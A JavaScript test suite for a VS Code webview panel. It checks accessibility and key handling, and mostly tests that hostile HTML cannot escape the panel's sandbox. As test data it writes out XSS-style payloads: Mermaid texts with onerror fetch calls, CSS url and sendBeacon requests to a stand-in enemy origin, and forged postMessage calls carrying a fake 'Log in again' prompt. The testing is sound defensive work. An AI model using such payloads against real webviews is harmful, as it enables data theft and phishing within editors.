// A panel as a tab of VS Code, in a played VS Code: looks, widgets, keys; and attacks by its HTML, with the cleaner, without
// it, and with script in its frame. What runs in the frame reaches neither the network nor the API of VS Code.
import assert from 'node:assert/strict';
import test, { after, before } from 'node:test';
import { axe, picture, until } from './harness.mjs';
import { cases, walkthrough } from './panel-cases.mjs';
import { clickAll, leftIn, scripts, settle } from './panel-scripts.mjs';
import { serveEnemy } from './panel-server.mjs';
import { openPage, startVsCode } from './vscode-server.mjs';
import { themes } from './vscode-themes.mjs';

let server;
let unclean;
let enemy;
before(async () => {
  enemy = await serveEnemy();
  server = await startVsCode();
  unclean = await startVsCode('--no-cleaner');
});
after(async () => {
  for (const it of [server, unclean, enemy]) await it?.close();
});

/** Opens a panel with this HTML. */
async function panel(t, contents, { on = server, ...options } = {}) {
  const it = await openPage(on, 'panel', { t, width: 480, height: 800, place: 'editor', ...options });
  const show = async (next) => {
    await it.host('send', { panel: { label: 'Walkthrough', contents: next } });
    const element = await it.frame.waitForSelector('.panel-frame[data-shown="true"]');
    return element.contentFrame();
  };
  const inside = await show(contents);
  const told = async (...expected) => {
    const events = async () => (await it.posted()).filter((message) => !('ready' in message));
    await until(async () => (await events()).length >= expected.length, 'the messages').catch(() => {});
    assert.deepEqual(await events(), expected);
  };
  return { ...it, again: show, inside, told };
}

/** axe reads style sheets by itself, and the policy of the page stops it. */
const allow = [/connect-src \S*\/panel\.css/, /^console: Connecting to '\S*\/panel\.css'/];

for (const theme of Object.keys(themes)) {
  test(`a panel is accessible and fits, ${theme}`, async (t) => {
    for (const width of [480, 1000]) {
      const { page, frame, inside } = await panel(t, walkthrough, { theme, width, allow });
      await inside.waitForSelector('.x-diagram img');
      await inside.waitForSelector('.t-key');
      await axe(page, { frame: inside });
      await axe(page, { frame });
      assert.ok(await inside.evaluate(() => document.documentElement.scrollWidth <= innerWidth), 'the panel fits');
      const colour = await inside.evaluate(() => getComputedStyle(document.body).backgroundColor);
      assert.equal(colour, { dark: 'rgb(31, 31, 31)', contrast: 'rgb(0, 0, 0)' }[theme] ?? 'rgb(255, 255, 255)');
      if (process.env.CONDUCTOR_PICTURES) {
        await page.setViewportSize({ width, height: 1900 });
        await picture(page, `vscode-panel-${width}-${theme.replace(' ', '-')}`);
      }
      await page.check();
    }
  });
}

test('widgets, files and links are told to the extension', async (t) => {
  const { page, inside, told } = await panel(t, walkthrough);
  await inside.click('text=src/router.rs:41');
  await inside.click('text=the notes');
  await inside.click('summary:has-text("What happens")');
  await inside.click('text=More detail');
  await inside.focus('select');
  await page.keyboard.press('ArrowDown');
  await inside.fill('input.c-input', 'why?');
  await page.keyboard.press('Enter');
  await inside.click('text=Next step');
  const event = (widget, kind, value) => ({ event: { widget, kind, value } });
  await told(
    { host: 'openFile', path: 'src/router.rs', line: 41 }, { host: 'openLink', href: 'https://example.com/docs' },
    event('more', 'toggle', true), event('level', 'choice', 'deep'), event('lang', 'choice', 'ts'), event('ask', 'input', 'why?'),
    event('next', 'click', '4'),
  );
});

test('other contents keep what the person has typed', async (t) => {
  const { again, inside } = await panel(t, walkthrough);
  await inside.fill('textarea', 'a note');
  await again(walkthrough.replace('How a request', 'How an answer'));
  await inside.waitForSelector('text=How an answer finds its way');
  assert.equal(await inside.inputValue('textarea'), 'a note');
});

test('a panel that is made again asks for its contents', async (t) => {
  const it = await panel(t, '<p>first</p>');
  assert.deepEqual(await it.posted(), [{ ready: true }]);
  it.frame = await it.show();
  assert.deepEqual(await it.posted(), [{ ready: true }, { ready: true }]);
  const nothing = [{ panel: null }, { panel: { label: 1, contents: 'x' } }, { panel: { label: 'x' } }, {}, 'x'];
  await it.handled(nothing.length, async () => {
    for (const message of nothing) await it.host('send', message);
  });
  await settle(it.page);
  assert.equal(await it.frame.locator('iframe').count(), 0);
});

test('keys of VS Code work in a panel, and keys of the panel stay in it', async (t) => {
  const { page, frame, inside, told } = await panel(t, '<input class="c-input" data-widget="a"><button class="c-button" data-widget="b">B</button>');
  await inside.fill('input', 'text');
  for (const key of ['Control+a', 'Control+c', 'Control+ArrowLeft', 'Control+Backspace', 'x', 'Shift+Home']) await page.keyboard.press(key);
  assert.equal(await inside.inputValue('input'), 'xtext');
  const command = (name) => ({ host: 'command', command: `workbench.action.${name}` });
  for (const key of ['F1', 'Control+Shift+P', 'Control+p', 'Control+b', 'F6']) {
    await inside.focus('input');
    await page.keyboard.press(key);
    await until(() => frame.evaluate(() => document.activeElement.localName === 'main'), 'the focus outside of the frame');
  }
  await inside.focus('button');
  await page.keyboard.press('Control+Shift+E');
  await until(() => frame.evaluate(() => document.activeElement.localName === 'main'), 'the focus outside of the frame');
  await told(command('showCommands'), command('showCommands'), command('quickOpen'), command('toggleSidebarVisibility'), command('focusNextPart'));
});

test('the diagram library is loaded for the first diagram, and diagrams follow the theme', async (t) => {
  const it = await panel(t, '<p>No diagram</p>');
  const loaded = [];
  it.page.on('request', (request) => loaded.push(new URL(request.url()).pathname));
  assert.equal(it.page.frames().length, 3);
  await it.again('<pre class="c-mermaid"><code>graph TD; A--&gt;B</code></pre><pre class="c-mermaid"><code>sequenceDiagram\n A-&gt;&gt;B: hi</code></pre>');
  await until(async () => (await it.inside.locator('.x-diagram img').count()) === 2, 'the diagrams');
  assert.deepEqual(loaded, ['/mermaid.js']);
  const before = await it.inside.getAttribute('.x-diagram img', 'src');
  await it.host('setTheme', themes.light);
  await until(async () => (await it.inside.getAttribute('.x-diagram img', 'src')) !== before, 'the diagram in light colours');
});

/** Runs one case through the real page. */
async function attack(it, name, html) {
  const requests = enemy.requests.length;
  await it.host('show', it.html);
  const frame = await (await it.page.waitForSelector('#active-frame')).contentFrame();
  const posted = (await it.posted()).length;
  await it.host('send', { panel: { label: 'Walkthrough', contents: html } });
  await frame.waitForSelector('.panel-frame[data-shown="true"], .panel-text');
  const inside = await (await frame.$('.panel-frame'))?.contentFrame();
  // Without the cleaner, a frame can try to leave. Then it is replaced by its text.
  assert.ok(inside || it.origin === unclean.origin, `${name}: the panel is shown`);
  if (inside) await clickAll(inside);
  await settle(it.page);
  assert.deepEqual(enemy.requests.slice(requests), [], `${name}: nothing reaches the enemy`);
  assert.equal(it.page.url(), `${it.origin}/`, `${name}: VS Code stays where it is`);
  assert.equal(frame.url(), `${it.origin}/fake.html`, `${name}: the page stays where it is`);
  assert.deepEqual(it.seen, { dialogs: 0, pages: 0 }, `${name}: no dialog and no new page`);
  const messages = (await it.posted()).slice(posted);
  const strange = messages.filter((message) => !('ready' in message) && message.host !== 'openLink' && message.event?.widget !== 'a');
  assert.deepEqual(strange, [], `${name}: nothing is told to the extension but what the person did`);
  for (const { href } of messages.filter((message) => message.host === 'openLink')) assert.match(href, /^https?:/, name);
  return { frame, inside };
}

/** A page that notices dialogs and new pages. */
async function watched(t, on, options = {}) {
  const it = await panel(t, '<p>Harmless</p>', { on, ...options });
  const seen = { dialogs: 0, pages: 0 };
  it.page.on('dialog', (dialog) => {
    seen.dialogs += 1;
    dialog.dismiss().catch(() => {});
  });
  it.page.context().on('page', () => (seen.pages += 1));
  return { ...it, seen, origin: on.origin };
}

test('with the cleaner, nothing gets out of a panel', async (t) => {
  // The cleaner reads the HTML in a document without a window, which has the policy of the frame. So the browser reports
  // what the policy stops there.
  const it = await watched(t, server, { allow: [/./] });
  for (const [name, html] of cases(enemy.origin)) {
    const { inside } = await attack(it, name, html);
    assert.equal(inside.url(), 'about:srcdoc', `${name}: the frame stays where it is`);
    assert.ok(await inside.evaluate(() => document.title === 'Walkthrough' && document.querySelector('main#panel') !== null), `${name}: the frame is still ours`);
    assert.deepEqual(await leftIn(inside), [], `${name}: the HTML is clean`);
  }
});

test('without the cleaner, the policy of the frame lets nothing out', async (t) => {
  const it = await watched(t, unclean, { allow: [/./] });
  for (const [name, html] of cases(enemy.origin)) await attack(it, name, html);
});

/** What else a script could try in VS Code. */
const inVsCode = {
  'the API': () => acquireVsCodeApi(),
  'the API of the page': () => parent.acquireVsCodeApi(),
  'what VS Code gives its pages': () => parent.parent.playedPost,
  'the document of the page': () => parent.document.title,
  'the document of VS Code': () => top.document.title,
  'the frame element': () => frameElement.ownerDocument.title,
  'a frame of its own, and its parents': () => {
    const made = document.body.appendChild(document.createElement('iframe'));
    return made.contentWindow.parent.parent.document.title;
  },
};

test('script in the frame reaches neither the network nor the API of VS Code', async (t) => {
  const it = await watched(t, server, { allow: [/./] });
  const requests = enemy.requests.length;
  const got = {};
  for (const [name, script] of Object.entries({ ...scripts, ...inVsCode })) {
    await it.host('show', it.html);
    const frame = await (await it.page.waitForSelector('#active-frame')).contentFrame();
    await it.host('send', { panel: { label: 'Walkthrough', contents: '<p>Harmless</p>' } });
    const inside = await (await frame.waitForSelector('.panel-frame[data-shown="true"]')).contentFrame();
    got[name] = await inside.evaluate(`(async () => {
      try { return 'got ' + String(await (${script})(${JSON.stringify(enemy.origin)})); } catch (error) { return error?.name ?? 'blocked'; }
    })()`);
  }
  const posted = (await it.posted()).length;
  const frame = await (await it.page.waitForSelector('#active-frame')).contentFrame();
  const inside = await (await frame.waitForSelector('.panel-frame[data-shown="true"]')).contentFrame();
  await inside.evaluate((to) => {
    navigator.sendBeacon(`${to}/s14`, 'x');
    // As the extension, as VS Code, and as the port would do.
    for (const target of [parent, parent.parent, top]) {
      target.postMessage({ panel: { label: 'Forged', contents: '<p>Log in again</p>' } }, '*');
      target.postMessage({ event: { widget: 'forged', kind: 'click', value: null } }, '*');
      target.postMessage({ t: 'event', widget: 'forged', kind: 'click', value: null }, '*');
    }
    document.querySelector('main').dispatchEvent(new KeyboardEvent('keydown', { key: 'F1', bubbles: true }));
  }, enemy.origin);
  await settle(it.page);
  assert.deepEqual(Object.entries(got).filter(([, value]) => value.startsWith('got')), [], JSON.stringify(got, null, 1));
  assert.deepEqual(enemy.requests.slice(requests), []);
  assert.deepEqual(it.seen, { dialogs: 0, pages: 0 });
  assert.deepEqual((await it.posted()).slice(posted), [], 'a message to a window is no message of the page');
  assert.equal(await inside.textContent('main p'), 'Harmless');
});

for (const [name, move] of Object.entries({
  'to the enemy': (to) => { location = to; },
  'to a document in its address': () => { location = 'data:text/html,<p>Log in again</p>'; },
  'to itself': () => { location.reload(); },
})) {
  test(`a frame that goes ${name} is replaced by the text`, async (t) => {
    const it = await watched(t, server, { allow: [/./] });
    const requests = enemy.requests.length;
    await it.inside.evaluate(`(${move})(${JSON.stringify(`${enemy.origin}/go`)})`).catch(() => {});
    await it.frame.waitForSelector('.panel-text');
    assert.match(await it.frame.textContent('.panel-text'), /was stopped: it tried to open another document.*<p>Harmless<\/p>/s);
    assert.equal(await it.frame.locator('iframe.panel-frame').count(), 0);
    assert.deepEqual(enemy.requests.slice(requests), []);
  });
}

test('hostile texts of diagrams reach nothing', async (t) => {
  const texts = [
    `graph TD; A["<img src='${enemy.origin}/m1' onerror=fetch('${enemy.origin}/m2')>"]-->B`, `graph TD; A-->B; click A href "${enemy.origin}/m4" _top`,
    `graph TD; A-->B; style A fill:url(${enemy.origin}/m5)`, `sequenceDiagram\n A->>B: <script>parent.acquireVsCodeApi()</script>`,
  ];
  const html = texts.map((text) => `<pre class="c-mermaid"><code>${text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</code></pre>`).join('');
  const it = await watched(t, server, { allow: [/./] });
  const requests = enemy.requests.length;
  const inside = await it.again(html);
  await until(async () => (await inside.locator('.x-diagram img, .x-problem').count()) === texts.length, 'all diagrams');
  await clickAll(inside);
  await settle(it.page);
  assert.deepEqual(enemy.requests.slice(requests), []);
  assert.deepEqual(it.seen, { dialogs: 0, pages: 0 });
});

test('panels that are too large are shown as text', async (t) => {
  const it = await openPage(server, 'panel', { t, width: 480, place: 'editor' });
  await it.page.evaluate(() => window.host.send({ panel: { label: 'Large', contents: `<p>${'x'.repeat(1 << 20)}</p>` } }));
  await it.frame.waitForSelector('.panel-text');
  assert.match(await it.frame.textContent('.panel-text > p'), /larger than 1 MB/);
  assert.equal(await it.frame.locator('iframe').count(), 0);
});
